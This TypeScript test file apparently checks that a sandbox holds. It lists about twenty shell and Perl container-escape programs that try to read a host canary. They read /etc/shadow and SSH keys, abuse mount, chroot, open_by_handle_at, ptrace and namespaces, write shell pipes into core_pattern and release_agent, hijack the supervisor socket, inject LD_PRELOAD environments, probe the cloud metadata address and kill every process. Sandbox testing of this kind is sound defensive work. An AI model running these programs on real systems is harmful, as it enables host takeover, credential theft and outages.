/** Numbers of system calls that neither shell nor Perl has a name for. */
const CALLS = {
  x64: {
    ...{ ptrace: 101, process_vm_readv: 310, name_to_handle_at: 303, open_by_handle_at: 304, keyctl: 250, add_key: 248, bpf: 321 },
    ...{
      perf_event_open: 298,
      setns: 308,
      unshare: 272,
      mount: 165,
      io_uring_setup: 425,
      userfaultfd: 323,
      init_module: 175,
      kexec_load: 246,
    },
  },
  arm64: {
    ...{ ptrace: 117, process_vm_readv: 270, name_to_handle_at: 264, open_by_handle_at: 265, keyctl: 219, add_key: 217, bpf: 280 },
    ...{
      perf_event_open: 241,
      setns: 268,
      unshare: 97,
      mount: 40,
      io_uring_setup: 425,
      userfaultfd: 282,
      init_module: 105,
      kexec_load: 104,
    },
  },
}[process.arch as 'x64' | 'arm64']

/** Said by each Perl program that ran through: one that does not even compile reads no canary either. */
export const TO_THE_END = 'perl came to its end'

const perl = (program: string): string =>
  `perl <<'PERL' 2>&1\nuse Socket; $| = 1;\n${Object.entries(CALLS)
    .map(([name, number]) => `sub sys_${name} { return syscall(${number}, @_) }`)
    .join('\n')}\n${program}\nprint "${TO_THE_END}\\n";\nPERL`

/** What must not happen is that it prints a canary; everything that it finds on its way it prints. */
export type Program = {
  title: string
  /**
   * Told by the environment: HOST_CANARY (a file of the host that everybody may read), DATA (the agent's data directory), HOST_PORT (a
   * listener on the host's loopback that serves a canary), NEIGHBOUR and NEIGHBOUR_PID (another sandbox, and its supervisor on the host).
   */
  script: string
}

export const PROGRAMS: readonly Program[] = [
  {
    title: 'reads the host by the paths that the host has',
    script:
      'cat "$HOST_CANARY" "$DATA"/sandboxes/*/record.json /etc/shadow /root/.* /home/*/.ssh/*; find / -xdev -name "*canary*" -exec cat {} + ; ls -R "$DATA"',
  },
  {
    title: 'mounts what it wants, over and under what it has',
    script: `mkdir -p /tmp/m; for from in / /proc/1/root "$DATA"; do mount --bind "$from" /tmp/m; cat "/tmp/m$HOST_CANARY"; done
      mount -o remount,rw /; mount -t proc proc /tmp/m; mount -t tmpfs x /tmp/m; mount -t overlay overlay -o lowerdir=/ /tmp/m
      umount -l /workspace /app /.boxoffice/link /proc / ; cat "$HOST_CANARY" /workspace/*canary* /tmp/m/*
      ${perl('for my $flags (0x1000, 0x5000, 0x20, 0x21, 0x40000) { my ($from, $at, $none) = ("/", "/tmp/m", ""); sys_mount($from, $at, $none, $flags, 0) } print `cat /tmp/m$ENV{HOST_CANARY}`;')}`,
  },
  {
    title: 'climbs out of its mounts by parents and by changing the root',
    script: `up=$(printf '../%.0s' $(seq 60)); for at in /workspace /app /tmp /.boxoffice/link /.boxoffice; do cat "$at/$up$HOST_CANARY"; done
      ${perl('mkdir "/tmp/jail"; opendir(my $d, "/") or print "no"; chroot("/tmp/jail") or print "chroot: $!\\n"; chdir($d); chdir("..") for 1..60; chroot("."); print `cat $ENV{HOST_CANARY} .$ENV{HOST_CANARY}`;')}`,
  },
  {
    title: 'opens files by handle, past every path',
    script: perl(`for my $name ("/workspace", "/.boxoffice/link", "/.boxoffice/supervisor", "/etc/hosts", "/usr") { my $at = $name;
        my $h = pack("Ii", 128, 0) . ("\\0" x 128); my $m = pack("i", 0);
        sys_name_to_handle_at(-100, $at, $h, $m, 0);
        for my $inode (2, 128, 256, 1024) {
          my $root = pack("Ii", 8, 1) . pack("II", $inode, 0); open(my $mount, "<", $at);
          my $fd = sys_open_by_handle_at(fileno($mount) // 3, $root, 0x10000);
          print "opened\\n", \`cat /proc/$$/fd/$fd$ENV{HOST_CANARY}\` if $fd >= 0;
        }
      }`),
  },
  {
    title: 'looks for the host in /proc',
    script: `for pid in /proc/[0-9]*; do cat "$pid/root$HOST_CANARY" "$pid/cwd/canary" "$pid/environ" "$pid/cmdline"; ls -l "$pid/fd" "$pid/map_files"; for fd in "$pid"/fd/*; do cat "$fd$HOST_CANARY"; done; done
      head -c 4096 /proc/kcore /proc/kmem /proc/vmcore; cat /proc/keys /proc/net/unix /proc/sched_debug /proc/timer_list; cat "/proc/$NEIGHBOUR_PID/environ" "/proc/$NEIGHBOUR_PID/root/workspace/canary"`,
  },
  {
    title: 'writes to the kernel’s switches in /proc and /sys',
    script: `for file in /proc/sysrq-trigger /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/fs/binfmt_misc/register /sys/kernel/uevent_helper /proc/sys/vm/drop_caches /proc/1/oom_score_adj; do echo "|/bin/sh -c 'cat $HOST_CANARY > /tmp/x'" > "$file" && echo "written: $file"; done
      find /sys/fs/cgroup -name release_agent -o -name notify_on_release -o -name cgroup.procs 2>/dev/null | while read -r file; do echo 1 > "$file" && echo "written: $file"; done; mkdir /sys/fs/cgroup/x /sys/fs/cgroup/*/x && echo "written: cgroup"; cat /tmp/x`,
  },
  {
    title: 'traces PID 1 and reads its memory',
    script: perl(`for my $request (16, 0x4206) { print "ptrace $request: ", sys_ptrace($request, 1, 0, 0), "\\n"; }
      my $buffer = "\\0" x 4096; my $local = pack("QQ", unpack("Q", pack("p", $buffer)), 4096);
      for my $at (0x400000, 0x10000, 0x555555554000, 0x7ffffffde000) { my $remote = pack("QQ", $at, 4096); print "read\\n$buffer" if sys_process_vm_readv(1, $local, 1, $remote, 1, 0) > 0; }
      open(my $mem, "+<", "/proc/1/mem") and print "opened mem\\n"; print \`cat /proc/1/maps /proc/1/auxv /proc/1/stack /proc/1/syscall\`;
      my $pidfd = syscall(434, 1, 0); for my $fd (0..40) { my $stolen = syscall(438, $pidfd, $fd, 0); print "stolen $fd: ", readlink("/proc/self/fd/$stolen"), "\\n" if $stolen >= 0; }`),
  },
  {
    title: 'speaks to the agent in the supervisor’s name',
    script:
      perl(`for my $hello ('{"version":1,"kind":"control","channel":0,"pid":1}', '{"version":1,"kind":"control","secret":"","pid":1}', '{"version":1,"kind":"channel","channel":1,"secret":"0000"}', '{}', 'x', '') {
        socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect($s, pack_sockaddr_un("/.boxoffice/link/link.sock")) or print "connect: $!\\n";
        syswrite($s, pack("VC", length($hello) + 1, 0x10) . $hello); syswrite($s, pack("VC", 3, $_) . "{}") for 0..255;
        local $SIG{ALRM} = sub { die "waited\\n" }; eval { alarm 2; while (sysread($s, my $b, 65536)) { print "told: $b\\n" } alarm 0; };
      }`).replace('perl <<', "trap '' PIPE; perl <<"),
  },
  {
    title: 'puts a socket of its own in the place of the supervisor’s',
    script: `rm -f /.boxoffice/link/link.sock; mv /.boxoffice/link /.boxoffice/gone; ln -sf /tmp/mine /.boxoffice/link/link.sock; chmod 777 /.boxoffice/link; touch /.boxoffice/link/x && echo written
      ${perl(`socket(my $s, AF_UNIX, SOCK_STREAM, 0); unlink "/.boxoffice/link/link.sock"; bind($s, pack_sockaddr_un("/.boxoffice/link/link.sock")) and print "written: bound\\n";
      for my $path ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "$ENV{DATA}/sandboxes/$ENV{NEIGHBOUR}/link/link.sock") { socket(my $c, AF_UNIX, SOCK_STREAM, 0); connect($c, pack_sockaddr_un($path)) and print "written: reached $path\\n"; }`)}`,
  },
  {
    title: 'changes the supervisor’s program, or runs it for itself',
    script: `cp /bin/sh /.boxoffice/supervisor && echo "written: supervisor"; echo x >> /.boxoffice/supervisor && echo "written: supervisor"; chmod u+s /.boxoffice/supervisor && echo "written: mode"
      cat /.boxoffice/supervisor > /tmp/copy; LD_PRELOAD=/workspace/x.so timeout 2 /.boxoffice/supervisor --socket /.boxoffice/link/link.sock --workspace / --home /tmp </dev/null; timeout 2 /.boxoffice/supervisor --prefork <<< '{"make":"x","groups":["/"]}'; timeout 2 /.boxoffice/supervisor --launch </dev/null`,
  },
  {
    title: 'leaves links to the host for the agent to follow',
    script: `cd /workspace; ln -sf "$HOST_CANARY" link-to-canary; ln -sfn "$(dirname "$HOST_CANARY")" link-to-directory; ln -sfn / link-to-root; ln -sfn ../../../../../../../../ link-up; ln -sfn /proc/self/root link-proc; ln -sfn "$DATA" link-data
      cat link-to-canary link-to-directory/canary "link-to-root$HOST_CANARY" "link-up$HOST_CANARY" "link-proc$HOST_CANARY"; ln "$HOST_CANARY" hard; ln /.boxoffice/link/link.sock hard-socket; cat hard`,
  },
  {
    title: 'makes device nodes and looks for the host’s disks',
    script: `for n in "b 8 0" "b 8 1" "b 254 0" "b 253 0" "b 259 0" "b 7 0" "c 1 1" "c 1 2" "c 1 4" "c 10 229" "c 10 232"; do mknod "/workspace/n-\${n// /-}" $n; mknod "/tmp/n-\${n// /-}" $n; done
      for d in /workspace/n-* /tmp/n-* /dev/sd* /dev/vd* /dev/nvme* /dev/mem /dev/kmem /dev/port /dev/kmsg /dev/loop* /dev/fuse /dev/kvm /dev/vsock /dev/mapper/*; do [ -b "$d" ] || [ -c "$d" ] || continue; head -c 65536 "$d" | grep -a -o 'canary[-0-9a-z]*'; (exec 3<>"$d") && echo "written: opened $d"; done`,
  },
  {
    title: 'signals PID 1 and everybody',
    script:
      'for s in KILL STOP TERM INT HUP QUIT SEGV ABRT USR1 USR2 PIPE ALRM CHLD TSTP; do kill -$s 1; done; kill -KILL "$NEIGHBOUR_PID"; kill -STOP "$PPID"; trap "" TERM HUP; kill -TERM -1; echo end; kill -KILL -1',
  },
  {
    title: 'plays tricks with names',
    script: `cd /workspace; mkdir -p d; touch -- $'new\\nline' '-rf' '$(cat canary)' ';cat canary;' '..canary' '.. ' $'\\x1b]0;title\\x07' $'\\xff\\xfe' $'d/\\r' "$(printf 'x%.0s' $(seq 255))"
      d=.; for i in $(seq 120); do d="$d/$(printf 'y%.0s' $(seq 200))"; mkdir "$d" || break; done; perl -e 'chdir "/workspace"; for (1..400) { mkdir "z" x 100 or last; chdir "z" x 100 or last }'
      ln -sfn loop loop; mkdir -p '%2e%2e%2f' '..%2f..%2f' '\\..\\..'; cat ..%2f..%2fcanary '%2e%2e%2fcanary'; cat "./..$HOST_CANARY"`,
  },
  {
    title: 'injects an environment',
    script: `env; printenv; cat /proc/self/environ; export LD_PRELOAD=/workspace/evil.so LD_LIBRARY_PATH=/workspace NODE_OPTIONS='--require /workspace/evil.js' BASH_ENV=/workspace/evil.sh ENV=/workspace/evil.sh PERL5OPT=-d IFS=x PS4='$(cat $HOST_CANARY)' BOXOFFICE_CONFIG=/workspace/config.json DOCKER_HOST=unix:///workspace/x.sock
      echo 'cat "$HOST_CANARY"' > /workspace/evil.sh; echo 'console.log(process.env)' > /workspace/evil.js; bash -xc true; sh -c env; echo 'export X=1' > ~/.profile; echo 'export X=1' > ~/.bashrc; bash -lc env`,
  },
  {
    title: 'sends huge and broken frames',
    script: perl(`$SIG{PIPE} = "IGNORE"; for my $length (0, 0xffffffff, 0x7fffffff, 0x400001, 0x400000) {
        socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect($s, pack_sockaddr_un("/.boxoffice/link/link.sock")) or print "connect: $!\\n"; syswrite($s, pack("VC", $length, 0x10));
        my $piece = "x" x 65536; for (1..256) { last unless syswrite($s, $piece) }
      }
      my @open; for (1..300) { socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect($s, pack_sockaddr_un("/.boxoffice/link/link.sock")) and push @open, $s; } select(undef, undef, undef, 0.3);`),
  },
  {
    title: 'takes rights by namespaces and by programs that give them',
    script: `for flags in -Ur -Urm -Urmp -Urn -UrC; do unshare $flags --fork sh -c 'mount -t tmpfs x /mnt; cat "$HOST_CANARY"; echo "written: namespace"'; done
      for ns in /proc/1/ns/*; do nsenter --"$(basename "$ns")"="$ns" true 2>/dev/null; done; find / -xdev -perm -4000 -type f 2>/dev/null | while read -r f; do timeout 2 "$f" </dev/null; done; su -c id; sudo -n id; newgrp root </dev/null; grep -i ^cap /proc/self/status
      ${perl('for my $flag (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x2000000) { print "written: unshare\\n" if sys_unshare($flag) == 0 && $flag == 0x10000000 } opendir(my $d, "/proc/1/ns"); for (readdir $d) { open(my $n, "<", "/proc/1/ns/$_") or next; sys_setns(fileno($n), 0); } print `cat $ENV{HOST_CANARY}`;')}`,
  },
  {
    title: 'dials the host, its network and the world',
    script: `cat /proc/net/dev | tail -n +3 | cut -d: -f1; for host in 127.0.0.1 172.17.0.1 10.0.2.2 host.docker.internal 169.254.169.254 1.1.1.1; do timeout 3 bash -c "exec 3<>/dev/tcp/$host/$HOST_PORT && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3"; done; ip link add x type dummy; ip addr add 10.0.0.2/24 dev lo; ip route add default dev lo
      ${perl('for my $cid (0..3) { socket(my $s, 40, 1, 0) or next; connect($s, pack("SSLLC4", 40, 0, $ENV{HOST_PORT}, $cid, 0,0,0,0)) and print "written: vsock $cid\\n" } socket(my $raw, AF_INET, SOCK_RAW, 1) and print "written: raw\\n"; socket(my $packet, 17, SOCK_RAW, 0) and print "written: packet\\n"; for my $name (`cut -d@ -f2 /proc/net/unix`) { chomp $name; socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect($s, pack("Sa*", AF_UNIX, "\\0$name")) and print "written: abstract $name\\n" }')}`,
  },
  {
    title: 'looks for its neighbour in memory that is shared, in keys and in temporary files',
    script: `cat /dev/shm/* /tmp/* /var/tmp/* /run/* /dev/mqueue/*; ipcs -a; cat "$DATA/workspaces/$NEIGHBOUR/canary" "$DATA/workspaces/"*/*; ls -la /tmp /dev/shm
      ${perl('for my $key (1..64, 0x0badcafe) { my $id = shmget($key, 4096, 0666); if (defined $id) { shmread($id, my $b, 0, 4096); print $b } } for my $ring (-8, -5..-1) { my ($kind, $name) = ("user", "bxo-canary"); my $id = sys_keyctl(10, $ring, $kind, $name, 0); if ($id > 0) { my $b = "\\0" x 256; sys_keyctl(11, $id, $b, 256); print $b } } print `cat /proc/keys /proc/key-users`;')}`,
  },
  {
    title: 'asks the kernel for what opens other ways',
    script:
      perl(`my $attr = "\\0" x 128; my %calls = (bpf => sub { sys_bpf(5, $attr, 128) }, perf => sub { sys_perf_event_open($attr, -1, 0, -1, 0) }, module => sub { my $none = ""; sys_init_module($attr, 128, $none) }, kexec => sub { sys_kexec_load(0, 0, 0, 0) }, userfault => sub { sys_userfaultfd(0) });
      for (sort keys %calls) { my $r = $calls{$_}->(); print "written: $_ $r\\n" if $r >= 0 && $_ ne "userfault" }
      my $c = "c"; open(my $tty, "+<", "/dev/tty") and ioctl($tty, 0x5412, $c); open(my $con, "+<", "/dev/console") and ioctl($con, 0x5412, $c); print \`dmesg\`; print \`cat $ENV{HOST_CANARY}\`;`),
  },
]
